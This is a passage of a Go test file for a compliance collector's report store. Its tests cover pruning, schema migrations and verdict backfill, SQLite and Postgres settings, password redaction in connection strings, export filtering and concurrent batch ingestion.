			for _, name := range []string{"", "   ", "bad\nname", strings.Repeat("n", MaxTokenName+1)} {
				if _, _, err := a.CreateToken(ctx, name); !errors.Is(err, ErrInvalid) {
					t.Errorf("CreateToken(%q): err = %v, want ErrInvalid", name, err)
				}
			}
		})
	}
}

// waitAuth authenticates secret on s until the answer is want (accepted
// or not), for as long as a token cache could lag; it returns the last
// answer.
func waitAuth(s *Store, secret string, want bool) (string, error) {
	deadline := time.Now().Add(10 * time.Second)
	for {
		id, err := s.Authenticate(context.Background(), secret)
		if (err == nil) == want || time.Now().After(deadline) {
			if want || err == nil {
				return id, err
			}
			return id, nil
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestPrune(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		day := 24 * time.Hour
		var a []*report.Report
		for i, golden := range []string{"windows-kes-active", "windows-leftovers", "windows-clean"} {
			r := fleettest.Report(t, golden, "a", "a", t0.Add(time.Duration(i)*day))
			ingest(t, s, r, t0.Add(time.Duration(i)*day), Stored)
			a = append(a, r)
		}
		b := fleettest.Report(t, "debian-clean", "b", "b", t0)
		ingest(t, s, b, t0, Stored)

		c.Set(t0.Add(10 * day))
		if _, err := s.Prune(ctx, 0); !errors.Is(err, ErrInvalid) {
			t.Errorf("Prune(0): err = %v, want ErrInvalid", err)
		}
		n, err := s.Prune(ctx, 5*day)
		if err != nil {
			t.Fatal(err)
		}
		if n != 2 {
			t.Errorf("pruned %d reports, want 2 (a's older ones)", n)
		}
		for _, r := range []*report.Report{a[2], b} {
			if _, err := s.Report(ctx, r.ReportID); err != nil {
				t.Errorf("latest report %s of %s pruned: %v", r.ReportID, r.Host.ID, err)
			}
		}
		for _, r := range a[:2] {
			if _, err := s.Report(ctx, r.ReportID); !errors.Is(err, ErrNotFound) {
				t.Errorf("old report %s kept: %v", r.ReportID, err)
			}
		}
		var left int
		if err := s.r.QueryRow("SELECT COUNT(*) FROM changes WHERE report_id IN ($1, $2)", a[0].ReportID, a[1].ReportID).Scan(&left); err != nil || left != 0 {
			t.Errorf("%d changes of pruned reports left (%v)", left, err)
		}
		if n := count(t, s, "hosts"); n != 2 {
			t.Errorf("%d hosts after pruning, want 2", n)
		}
		if n, err := s.Prune(ctx, 5*day); err != nil || n != 0 {
			t.Errorf("second Prune = %d, %v; want 0", n, err)
		}
	})
}

func TestMigrations(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			ctx := context.Background()
			dsn := dsnFor(t, d)
			// Replicas starting at once: all succeed, the schema is applied once.
			var wg sync.WaitGroup
			stores := make([]*Store, 4)
			errs := make([]error, len(stores))
			for i := range stores {
				wg.Go(func() { stores[i], errs[i] = Open(ctx, dsn, Options{}) })
			}
			wg.Wait()
			for i, err := range errs {
				if err != nil {
					t.Fatalf("replica %d: %v", i, err)
				}
				stores[i].Close()
			}
			s := openDSN(t, dsn, Options{})
			v, err := s.SchemaVersion(ctx)
			if err != nil || v != KnownSchemaVersion() || v < 1 {
				t.Errorf("SchemaVersion = %d, %v; want %d", v, err, KnownSchemaVersion())
			}
			if n := count(t, s, "schema_migrations"); n != KnownSchemaVersion() {
				t.Errorf("%d migrations recorded, want %d", n, KnownSchemaVersion())
			}
			// A database from a newer collector is refused.
			if _, err := s.w.Exec("INSERT INTO schema_migrations (version, name, applied_at) VALUES (999, 'future', 0)"); err != nil {
				t.Fatal(err)
			}
			if s2, err := Open(ctx, dsn, Options{}); !errors.Is(err, ErrSchemaTooNew) {
				if s2 != nil {
					s2.Close()
				}
				t.Errorf("Open of a newer database: err = %v, want ErrSchemaTooNew", err)
			}
		})
	}
}

// A database of the first schema, filled by a collector that knew no
// verdict, gets every host's verdict, compliant flag, state and rank from
// its latest report when migration 2 runs: a host whose scan could not
// see (an old agent's report with compliant true and a failed source)
// becomes incomplete instead of staying compliant.
func TestMigrationBackfillsVerdicts(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			ctx := context.Background()
			dsn := dsnFor(t, d)
			s, err := Open(ctx, dsn, Options{Now: func() time.Time { return t0 }})
			if err != nil {
				t.Fatal(err)
			}
			for id, golden := range map[string]string{"kes": "debian-kaspersky", "clean": "debian-clean", "other": "darwin-other-vendors", "broken": "debian-incomplete"} {
				ingest(t, s, fleettest.Report(t, golden, id, id, t0.Add(-time.Minute)), t0, Stored)
			}
			old := fleettest.Report(t, "debian-incomplete", "old", "old", t0.Add(-time.Minute))
			old.Verdict, old.Compliant = "", true // an agent older than the verdict
			ingest(t, s, old, t0, Stored)

			// Make it the database the first schema's collector left: no
			// verdict column, compliant from products alone, its ranks.
			rollBack(t, s, 1)
			s.Close()

			want := map[string]struct {
				verdict, state string
			}{
				"kes":    {report.VerdictNonCompliant, HostRestricted},
				"broken": {report.VerdictIncomplete, HostIncomplete},
				"old":    {report.VerdictIncomplete, HostIncomplete},
				"clean":  {report.VerdictCompliant, HostUnprotected},
				"other":  {report.VerdictCompliant, HostClean},
			}
			for range 2 { // the second open finds nothing to do
				s = openDSN(t, dsn, Options{Now: func() time.Time { return t0 }})
				if v, err := s.SchemaVersion(ctx); err != nil || v != KnownSchemaVersion() {
					t.Fatalf("schema version %d, %v", v, err)
				}
				page, err := s.Hosts(ctx, HostFilter{})
				if err != nil {
					t.Fatal(err)
				}
				var order []string
				for _, h := range page.Hosts {
					order = append(order, h.ID)
					w := want[h.ID]
					if h.Verdict != w.verdict || h.State != w.state || h.Compliant != (w.verdict == report.VerdictCompliant) {
						t.Errorf("%s: verdict %q state %q compliant %v, want %q %q", h.ID, h.Verdict, h.State, h.Compliant, w.verdict, w.state)
					}
				}
				// The worst first: restricted, incomplete, unprotected, clean.
				if got := strings.Join(order, " "); got != "kes broken old clean other" {
					t.Errorf("order %q", got)
				}
				// Migration 7 enters every host into the fleet trend.
				var inTrend int
				if err := s.r.QueryRowContext(ctx, "SELECT SUM(hosts) FROM fleet_trend").Scan(&inTrend); err != nil || inTrend != len(want) {
					t.Errorf("fleet trend holds %d hosts (%v), want %d", inTrend, err, len(want))
				}
				sum, err := s.Summary(ctx, 0)
				if err != nil || sum.Incomplete != 2 || sum.Compliant != 2 || sum.Restricted != 1 || sum.Unprotected != 1 {
					t.Errorf("summary %+v, %v", sum, err)
				}
				s.Close()
			}
			// A later report of the old host is diffed against the
			// backfilled verdict: its history says it left incomplete.
			s = openDSN(t, dsn, Options{Now: func() time.Time { return t0.Add(time.Hour) }})
			ingest(t, s, fleettest.Report(t, "debian-clean", "old", "old", t0.Add(time.Hour)), t0.Add(time.Hour), Stored)
			det, err := s.Host(ctx, "old", 0)
			if err != nil {
				t.Fatal(err)
			}
			if len(det.History) == 0 || det.History[0].Kind != ChangeCompliance || det.History[0].From != "incomplete" || det.History[0].To != "compliant" {
				t.Errorf("history after the backfill: %s", fmtChanges(det.History))
			}
		})
	}
}

func TestOpenSQLite(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "new.db")
	s := openDSN(t, path, Options{})
	r := fleettest.Report(t, "debian-clean", "h1", "h1", t0)
	ingest(t, s, r, t0, Stored)
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("database file mode %v, want 0600: it holds every host's defences", st.Mode().Perm())
	}
	var mode string
	if err := s.w.QueryRow("PRAGMA journal_mode").Scan(&mode); err != nil || mode != "wal" {
		t.Errorf("journal_mode = %q, %v; want wal", mode, err)
	}
	var fk int
	if err := s.w.QueryRow("PRAGMA foreign_keys").Scan(&fk); err != nil || fk != 1 {
		t.Errorf("foreign_keys = %d, %v; want 1", fk, err)
	}
	if _, err := s.r.Exec("DELETE FROM hosts"); err == nil {
		t.Error("the read pool can write")
	}

	// A file: URI with its own parameters works too, and sees the same data.
	s2 := openDSN(t, "file:"+path+"?cache=private", Options{})
	if d, err := s2.Host(context.Background(), "h1", 0); err != nil || d.ID != "h1" {
		t.Errorf("via file: URI: %+v, %v", d.HostSummary, err)
	}

	for _, bad := range []string{"", filepath.Join(dir, "what?.db"), filepath.Join(dir, "missing-dir", "x.db")} {
		if s, err := Open(context.Background(), bad, Options{}); err == nil {
			s.Close()
			t.Errorf("Open(%q) succeeded", bad)
		}
	}
}

func TestOpenPostgresErrors(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	// Nothing listens on port 1; the password must not appear in the error.
	_, err := Open(ctx, "postgres://u:s3cr3t-pw@127.0.0.1:1/db?sslmode=disable&connect_timeout=5", Options{})
	if err == nil {
		t.Fatal("Open of an unreachable server succeeded")
	}
	if strings.Contains(err.Error(), "s3cr3t-pw") {
		t.Errorf("error leaks the password: %v", err)
	}
	_, err = Open(ctx, "postgres://u:s3cr3t-pw@127.0.0.1:5432/db?sslmode=bogus", Options{})
	if err == nil || strings.Contains(err.Error(), "s3cr3t-pw") {
		t.Errorf("bad URL: err = %v, want an error without the password", err)
	}
}

func TestRedactDSN(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"postgres://u:pw@db:5432/x?sslmode=require", "postgres://u:xxxxx@db:5432/x?sslmode=require"},
		{"postgresql://db/x?password=pw&user=u", "postgresql://db/x?password=xxxxx&user=u"},
		{"/var/lib/avscout/avscout.db", "/var/lib/avscout/avscout.db"},
	} {
		if got := RedactDSN(tt.in); got != tt.want {
			t.Errorf("RedactDSN(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestExport(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		for _, h := range fleet {
			r := fleettest.Report(t, h.golden, h.id, h.name, t0)
			r.Tags = h.tags
			ingest(t, s, r, t0, Stored)
		}
		var got []string
		err := s.Export(ctx, HostFilter{Tag: "site=berlin", Limit: 1}, func(row ExportRow) error {
			line := row.Host.ID + ":"
			if row.HasProduct {
				line += row.Product.ID + "/" + row.Product.State
			}
			got = append(got, line)
			if row.Host.Tags["site"] != "berlin" {
				t.Errorf("row %q without its host's tags", line)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		want := []string{
			"h-deb-kes:kaspersky-endpoint-security-linux/installed",
			"h-deb-kes:kaspersky-network-agent/installed",
			"h-deb-kes:clamav/installed",
			"h-deb-kes:microsoft-defender-endpoint/installed",
			"h-deb-clean:",
		}
		if !slices.Equal(got, want) {
			t.Errorf("export rows\n got %q\nwant %q", got, want)
		}
		stop := errors.New("stop")
		rows := 0
		err = s.Export(ctx, HostFilter{}, func(ExportRow) error { rows++; return stop })
		if !errors.Is(err, stop) || rows != 1 {
			t.Errorf("Export with a failing fn: err %v after %d rows", err, rows)
		}
	})
}

// generated_at has second precision: of two reports of one host generated
// in the same second, the one that arrives last is the current state,
// whatever their random ids.
func TestSameSecondReportsFollowArrival(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		for i := 0; i < 8; i++ { // random ids: both orders of the ids occur
			host := fmt.Sprintf("same-second-%d", i)
			first := fleettest.Report(t, "debian-kaspersky", host, host, t0)
			second := fleettest.Report(t, "debian-leftovers", host, host, t0)
			ingest(t, s, first, t0, Stored)
			ingest(t, s, second, t0.Add(time.Second), Stored)
			d, err := s.Host(context.Background(), host, 0)
			if err != nil {
				t.Fatal(err)
			}
			if d.LastReportID != second.ReportID || !d.Compliant {
				t.Errorf("ids %s then %s: current report %s compliant %v, want the later arrival",
					first.ReportID, second.ReportID, d.LastReportID, d.Compliant)
			}
		}
	})
}

// TestIngestMixedBatch sends, all at once, new reports of new and known
// hosts, replays and conflicting reports: they share transactions (group
// commit), and each gets its own outcome, the conflicts failing alone.
func TestIngestMixedBatch(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		var known []*report.Report
		for h := range 5 {
			r := fleettest.Report(t, "windows-kes-active", fmt.Sprintf("known%d", h), "k", t0)
			ingest(t, s, r, t0, Stored)
			known = append(known, r)
		}
		type job struct {
			in   Incoming
			want Outcome // 0: ErrConflict
		}
		var jobs []job
		for i := range 40 {
			host := fmt.Sprintf("new%d", i%10)
			if i%2 == 0 {
				host = known[i%5].Host.ID
			}
			r := fleettest.Report(t, []string{"windows-clean", "windows-leftovers"}[i%2], host, host, t0.Add(time.Hour))
			jobs = append(jobs, job{Incoming{Report: r, Raw: fleettest.JSON(t, r), TokenID: "tok", ReceivedAt: t0.Add(time.Hour)}, Stored})
		}
		for _, r := range known {
			jobs = append(jobs, job{Incoming{Report: r, Raw: fleettest.JSON(t, r), TokenID: "tok", ReceivedAt: t0.Add(time.Hour)}, Duplicate})
			forged := *r
			forged.Host.ID = "forged-" + r.Host.ID // a new host that must not be created
			jobs = append(jobs, job{Incoming{Report: &forged, Raw: fleettest.JSON(t, &forged), TokenID: "tok", ReceivedAt: t0.Add(time.Hour)}, 0})
		}
		var wg sync.WaitGroup
		for _, j := range jobs {
			wg.Go(func() {
				out, err := s.Ingest(ctx, j.in)
				switch {
				case j.want == 0 && !errors.Is(err, ErrConflict):
					t.Errorf("%s of %s: %v, %v; want ErrConflict", j.in.Report.ReportID, j.in.Report.Host.ID, out, err)
				case j.want != 0 && (err != nil || out != j.want):
					t.Errorf("%s of %s: %v, %v; want %v", j.in.Report.ReportID, j.in.Report.Host.ID, out, err, j.want)
				}
			})
		}
		wg.Wait()
		if n := count(t, s, "hosts"); n != 10 {
			t.Errorf("%d hosts, want 10 (5 known, 5 new, no forged)", n)
		}
		if n := count(t, s, "reports"); n != 45 {
			t.Errorf("%d reports, want 45", n)
		}
		for _, id := range []string{"known0", "new3"} {
			d, err := s.Host(ctx, id, 0)
			if err != nil {
				t.Fatal(err)
			}
			order := receivedOrder(t, s, id)
			if d.LastReportID != order[len(order)-1] || d.Products != len(d.Latest.Products) {
				t.Errorf("%s: current %s with %d products, want the last received of %v", id, d.LastReportID, d.Products, order)
			}
		}
	})
}

// TestCloseDrains: reports handed to Ingest before Close are stored or
// refused, never left waiting.
func TestCloseDrains(t *testing.T) {
	path := filepath.Join(t.TempDir(), "a.db")
	s, err := Open(context.Background(), path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	var stored atomic.Int64
	for i := range 50 {
		r := fleettest.Report(t, "debian-clean", fmt.Sprintf("h%d", i), "h", t0)
		raw := fleettest.JSON(t, r)
		wg.Go(func() {
			out, err := s.Ingest(context.Background(), Incoming{Report: r, Raw: raw, TokenID: "tok", ReceivedAt: t0})
			switch {
			case err == nil && out == Stored:
				stored.Add(1)
			case !errors.Is(err, errClosed):
				t.Errorf("Ingest during Close: %v, %v", out, err)
			}
		})
	}
	time.Sleep(5 * time.Millisecond)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	s = openDSN(t, path, Options{})
	if n := count(t, s, "reports"); int64(n) != stored.Load() {
		t.Errorf("%d reports in the database, %d answered stored", n, stored.Load())
	}
}

// The collector's PostgreSQL sessions plan no parallel workers (see
// openPostgres) unless the URL says otherwise.
func TestPostgresNoParallelWorkers(t *testing.T) {
	ctx := context.Background()
	dsn := dsnFor(t, "postgres")
	for _, tt := range []struct{ dsn, want string }{
		{dsn, "0"},
		{dsn + "&max_parallel_workers_per_gather=1", "1"},
	} {
		s := openDSN(t, tt.dsn, Options{})
		var got string
		if err := s.r.QueryRowContext(ctx, "SHOW max_parallel_workers_per_gather").Scan(&got); err != nil {
			t.Fatal(err)
		}
		if got != tt.want {
			t.Errorf("%s: max_parallel_workers_per_gather = %s, want %s", RedactDSN(tt.dsn), got, tt.want)
		}
	}
}
